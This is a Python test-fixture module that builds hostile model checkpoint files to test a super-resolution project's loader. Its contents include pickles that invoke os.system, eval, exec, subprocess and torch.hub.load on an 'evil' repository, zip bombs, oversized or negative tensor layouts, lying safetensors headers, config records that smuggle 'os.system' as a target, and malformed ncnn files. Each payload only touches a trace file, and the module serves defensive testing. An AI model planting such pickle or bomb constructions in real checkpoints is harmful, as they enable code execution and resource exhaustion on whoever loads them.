"""Checkpoint files that nobody's training wrote."""

import builtins
import io
import json
import os
import pickle
import struct
import subprocess
import zipfile
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import Any

import torch

from sr_experiments.generators.compact import Compact
from sr_experiments.generators.msrresnet import MSRResNet
from tests.checkpoints import ncnn_files

HUGE = 10**12


class Call:
    """Pickled as `function(*arguments)`, so that reading it calls that."""

    def __init__(self, function: Callable[..., Any], *arguments: Any) -> None:
        self.call = function, arguments

    def __reduce__(self) -> Any:
        return self.call


class Storage:
    """Pickled as torch's reference to a storage of `count` floats."""

    def __init__(self, count: int, key: str = "0") -> None:
        self.id = ("storage", torch.FloatStorage, key, "cpu", count)


class _Pickler(pickle.Pickler):
    def persistent_id(self, thing: Any) -> Any:
        return thing.id if isinstance(thing, Storage) else None


def pickled(content: Any) -> bytes:
    buffer = io.BytesIO()
    _Pickler(buffer, 2).dump(content)
    return buffer.getvalue()


def zipped(file: Path, content: Any, storages: Mapping[str, bytes] | None = None, compress: bool = False) -> Path:
    """A .pth as torch.save makes it, but with any pickle and any storages."""
    kind = zipfile.ZIP_DEFLATED if compress else zipfile.ZIP_STORED
    with zipfile.ZipFile(file, "w", kind) as archive:
        archive.writestr("archive/data.pkl", pickled(content))
        archive.writestr("archive/byteorder", "little")
        for key, stored in (storages or {"0": b"\0" * 64}).items():
            archive.writestr(f"archive/data/{key}", stored)
        archive.writestr("archive/version", "3\n")
    return file


def tensor(count: int, offset: int, size: tuple[int, ...], stride: tuple[int, ...]) -> Call:
    return Call(torch._utils._rebuild_tensor_v2, Storage(count), offset, size, stride, False, {})


def tiny(scale: int = 2) -> dict[str, Any]:
    torch.manual_seed(0)
    return dict(MSRResNet(scale, features=4, blocks=1).state_dict())


def calls(trace: Path) -> dict[str, Any]:
    """Calls that would leave `trace`, each in its own way."""
    command = f"touch {trace}"
    touch = f"__import__('pathlib').Path({str(trace)!r}).touch()"
    return {
        "os.system": Call(os.system, command),
        "eval": Call(builtins.eval, touch),
        "exec": Call(builtins.exec, touch),
        "popen": Call(subprocess.Popen, ["touch", str(trace)]),
        "getattr": Call(getattr, Call(builtins.__import__, "os"), "system"),
        "import": Call(builtins.__import__, "antigravity"),
        "open": Call(builtins.open, str(trace), "w"),
        "load": Call(torch.load, str(trace)),
        "hub": Call(torch.hub.load, "evil/repository", "model"),
        "module": Call(torch.hub.load_state_dict_from_url, "http://127.0.0.1:9/x.pth"),
        "jit": Call(torch.jit.load, str(trace)),
        "subclass": Call(torch._tensor._rebuild_from_type_v2, Call(os.system, command), torch.Tensor, (), {}),
        "state": Call(torch._utils._rebuild_parameter_with_state, Call(os.system, command), True, [], {}),
        "numpy": Call(torch._utils._rebuild_device_tensor_from_numpy, Call(os.system, command), torch.float32, "cpu",
                      False),
        "wrapper": Call(torch._utils._rebuild_wrapper_subclass, Call(getattr, Call(builtins.__import__, "os"),
                        "system"), torch.float32, (1,), (1,), 0, torch.strided, "cpu", False),
    }  # fmt: skip


def absurd(file: Path) -> dict[str, Callable[[], Path]]:
    """Files whose content is far larger than they are, or isn't there at all."""

    def with_first(first: Any, storages: Mapping[str, bytes] | None = None, **more: Any) -> Callable[[], Path]:
        state = {name: tensor(1, 0, tuple(t.shape), (0,) * t.ndim) for name, t in tiny().items()}
        return lambda: zipped(file, {"params": {**state, "conv_first.weight": first}, **more}, storages)

    return {
        "expanded": with_first(tensor(1, 0, (HUGE, 3, 3, 3), (0, 0, 0, 0))),
        "expanded twice": with_first(tensor(1, 0, (HUGE, HUGE, 3, 3), (0, 0, 0, 0))),
        "beyond its storage": with_first(tensor(16, 0, (4, 3, 3, 3), (27, 9, 3, 1))),
        "offset beyond": with_first(tensor(16, 10**9, (1,), (1,))),
        "negative offset": with_first(tensor(16, -4, (1,), (1,))),
        "negative size": with_first(tensor(16, 0, (-4,), (1,))),
        "negative stride": with_first(tensor(16, 8, (4,), (-1,))),
        "huge strides": with_first(tensor(16, 0, (4, 4), (2**62, 2**62))),
        "huge storage": with_first(tensor(HUGE, 0, (HUGE,), (1,))),
        "on no device": with_first(
            Call(torch._utils._rebuild_meta_tensor_no_storage, torch.float32, (HUGE,), (1,), False)
        ),
        "sparse": with_first(
            Call(
                torch._utils._rebuild_sparse_tensor,
                Call(torch.serialization._get_layout, "torch.sparse_coo"),
                (Call(torch._utils._rebuild_tensor_v2, Storage(16), 0, (1, 0), (0, 1), False, {}),
                 tensor(16, 0, (0,), (1,)), (HUGE, HUGE), True),
            )
        ),
        "uninitialised": with_first(Call(torch.Tensor, HUGE)),
        "bytes": with_first(Call(bytearray, HUGE)),
        "wide network": lambda: _of_shapes(file, {"conv_first.weight": (200_000, 3, 3, 3)}),
        "wide enough to fit": lambda: _of_shapes(file, {"conv_first.weight": (10_000, 3, 3, 3)}),
        "deep network": lambda: _deep(file, 10**4),
        "no pixels": lambda: _of_shapes(file, {"conv_first.weight": (0, 3, 3, 3)}),
        "scalar": lambda: _of_shapes(file, {"conv_first.weight": ()}),
    }  # fmt: skip


def _of_shapes(file: Path, shapes: Mapping[str, tuple[int, ...]]) -> Path:
    """A network's weights, some in other shapes, all of them there."""
    torch.save({"params": {**tiny(), **{name: torch.zeros(shape) for name, shape in shapes.items()}}}, file)
    return file


def _deep(file: Path, blocks: int) -> Path:
    one = torch.zeros(1)
    state = {**tiny(), **{f"body.{i}.conv1.weight": one for i in range(blocks)}}
    torch.save({"params": state}, file)
    return file


def bombs(file: Path) -> dict[str, Callable[[], Path]]:
    """Archives that unpack to far more than they are."""

    def compressed() -> Path:
        with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
            archive.writestr("archive/data.pkl", pickled({"x": tensor(5 << 26, 0, (5 << 26,), (1,))}))
            archive.writestr("archive/byteorder", "little")
            with archive.open("archive/data/0", "w", force_zip64=True) as member:
                for _ in range(5 << 4):
                    member.write(bytes(1 << 24))
            archive.writestr("archive/version", "3\n")
        return file

    def claimed() -> Path:
        zipped(file, {"params": tiny_calls()}, {"0": b"\0" * 64})
        content = bytearray(file.read_bytes())
        at = 0
        while (at := content.find(b"PK\x01\x02", at)) >= 0:  # sizes in the central directory
            if b"data/0" in content[at : at + 80]:
                content[at + 20 : at + 28] = struct.pack("<II", 0xFFFFFFF0, 0xFFFFFFF0)
            at += 4
        file.write_bytes(content)
        return file

    return {"compressed": compressed, "claimed": claimed}


def tiny_calls() -> dict[str, Any]:
    return {name: tensor(16, 0, (1,), (1,)) for name in tiny()}


def safetensors_bytes(header: Any, data: bytes = b"", length: int | None = None) -> bytes:
    written = header if isinstance(header, bytes) else json.dumps(header).encode()
    return struct.pack("<Q", len(written) if length is None else length) + written + data


def lying_safetensors() -> dict[str, bytes]:
    """Headers that don't fit what follows."""

    def one(dtype: Any = "F32", shape: Any = (4,), offsets: Any = (0, 16), **more: Any) -> dict[str, Any]:
        return {"conv_first.weight": {"dtype": dtype, "shape": shape, "data_offsets": offsets}, **more}

    data = bytes(16)
    twin = {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]}
    return {
        "length beyond the file": safetensors_bytes(one(), data, 10**6),
        "length of eight bytes": safetensors_bytes(one(), data, 2**63),
        "nothing": b"",
        "offsets beyond the file": safetensors_bytes(one(shape=(400,), offsets=(0, 1600)), data),
        "offsets backwards": safetensors_bytes(one(offsets=(16, 0)), data),
        "negative offsets": safetensors_bytes(one(offsets=(-16, 0)), data),
        "overlapping": safetensors_bytes(one(other=twin), data),
        "hole": safetensors_bytes(one(other={**twin, "data_offsets": [32, 48]}), bytes(48)),
        "shape of another size": safetensors_bytes(one(shape=(5,)), data),
        "shape that overflows": safetensors_bytes(one(shape=(2**32, 2**32, 2**32)), data),
        "negative shape": safetensors_bytes(one(shape=(-4,)), data),
        "unknown dtype": safetensors_bytes(one(dtype="F7"), data),
        "dtype of another kind": safetensors_bytes(one(dtype=7), data),
        "complex": safetensors_bytes(one(dtype="C64", shape=(2,)), data),
        "booleans": safetensors_bytes(one(dtype="BOOL", shape=(16,)), data),
        "text": safetensors_bytes(b"[1, 2, 3]", data),
        "not UTF-8": safetensors_bytes(b'{"\xff\xfe": {}}', data),
        "duplicate keys": safetensors_bytes(
            b'{"a": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]},'
            b' "a": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}}', data
        ),
        "deep": safetensors_bytes(b'{"a": ' + b"[" * 100_000 + b"]" * 100_000 + b"}", data),
        "metadata of another kind": safetensors_bytes({"__metadata__": {"a": 3}, **one()}, data),
        "huge header": safetensors_bytes(b"{" + b" " * (1 << 20) + b"}", data, 2**40),
    }  # fmt: skip


def records() -> dict[str, Any]:
    """Records of a generator that no training wrote; a whole file around each is made by the test."""
    good = {"name": "msrresnet", "scale": 2, "channels": 3, "features": 4, "blocks": 1}
    return {
        "nothing": None,
        "a number": 7,
        "a list": [1, 2],
        "no generator": {"format": 1},
        "generator of text": {"format": 1, "generator": "os.system"},
        "name of a list": {"format": 1, "generator": {**good, "name": ["msrresnet"]}},
        "name of a class": {"format": 1, "generator": {**good, "name": "torch.nn.Linear"}},
        "target": {"format": 1, "generator": {"_target_": "os.system", "command": "touch ran", **good}},
        "only a target": {"format": 1, "generator": {"_target_": "os.system", "name": "_target_"}},
        "format of text": {"format": "one", "generator": good},
        "format of a list": {"format": [1], "generator": good},
        "features of text": {"format": 1, "generator": {**good, "features": "64"}},
        "features of a list": {"format": 1, "generator": {**good, "features": [4]}},
        "features of a mapping": {"format": 1, "generator": {**good, "features": {"a": 1}}},
        "negative features": {"format": 1, "generator": {**good, "features": -4}},
        "half a feature": {"format": 1, "generator": {**good, "features": 4.5}},
        "huge features": {"format": 1, "generator": {**good, "features": 10**6}},
        "huge blocks": {"format": 1, "generator": {**good, "blocks": 10**9}},
        "huge scale": {"format": 1, "generator": {**good, "scale": 10**9}},
        "infinite scale": {"format": 1, "generator": {**good, "scale": float("inf")}},
        "other network": {"format": 1, "generator": {**good, "name": "rrdbnet", "growth": 10**6}},
        "frvsr": {"format": 1, "generator": {"name": "frvsr", "scale": 2, "srnet": {"name": "os.system"}}},
        "frvsr, srnet of text": {"format": 1, "generator": {"name": "frvsr", "scale": 2, "srnet": "resnet"}},
        "spandrel": {"format": 1, "generator": {"name": "spandrel", "scale": 2, "arch": "os.system"}},
        "spandrel, arch of a number": {"format": 1, "generator": {"name": "spandrel", "scale": 2, "arch": 3}},
        "spandrel, huge": {"format": 1, "generator": {"name": "spandrel", "scale": 4, "arch": "RCAN",
                                                      "options": {"n_feats": 20_000}}},
        "spandrel, deep": {"format": 1, "generator": {"name": "spandrel", "scale": 4, "arch": "SPAN",
                                                      "options": {"feature_channels": 20_000}}},
        "spandrel, large": {"format": 1, "generator": {"name": "spandrel", "scale": 10**4, "arch": "SPAN"}},
        "spandrel, options of text": {"format": 1, "generator": {"name": "spandrel", "scale": 2, "options": "x"}},
    }  # fmt: skip


def lying_ncnn() -> dict[str, tuple[str, bytes]]:
    """A `.param` and a `.bin` that don't fit each other, or ask for too much."""
    torch.manual_seed(0)
    network = Compact(scale=2, features=4, convolutions=1)
    param, content = ncnn_files.compact(network, half=True).texts()
    head, layers = param.split("\n", 2)[:2], param.split("\n", 2)[2]

    def with_lines(*lines: str) -> str:
        return "\n".join([head[0], f"{len(lines)} 9", *lines]) + "\n"

    doubling = [f"Concat c{i} 2 1 b{i} b{i} b{i + 1}" for i in range(10_000)]
    return {
        "no lines": (f"{head[0]}\n", content),
        "huge count": (f"{head[0]}\n{HUGE} {HUGE}\n{layers}", content),
        "negative count": (f"{head[0]}\n-1 -1\n{layers}", content),
        "huge channels": (param.replace("0=4 ", f"0={HUGE} "), content),
        "huge weights": (param.replace("6=144", f"6={HUGE * 9}"), content),
        "negative weights": (param.replace("6=144", "6=-144"), content),
        "infinite": (param.replace("6=144", "6=inf"), content),
        "beyond floats": (param.replace("6=144", f"6=1{'0' * 4000}"), content),
        "huge scale": (param.replace("0=1 1=2", f"0=1 1={HUGE}").replace("0=2", f"0={HUGE}"), content),
        "negative blobs": (param.replace("1 1 ", "1 -1 ", 1), content),
        "array for a number": (param.replace(" 6=144", " -23306=1,144"), content),
        "number for an array": (param.replace(" 4=1", " 4=1 9=2 10=0.2"), content),
        "doubling": (with_lines("Input i 0 1 b0", *doubling), content),
        "deep": (with_lines("Input i 0 1 b0", *(f"ReLU r{i} 1 1 b{i} b{i + 1}" for i in range(50_000))), content),
        "large": (param + " " * (1 << 23), content),
        "no UTF-8": ("7767517\n\udcff\udcfe", content),
        "empty bin": (param, b""),
        "bin cut short": (param, content[:-5]),
        "bin of another": (param, content * 2),
        "other flag": (param, b"\xff" * 4 + content[4:]),
        "NaN": (param, content[:4] + b"\xff" * 8 + content[12:]),
    }
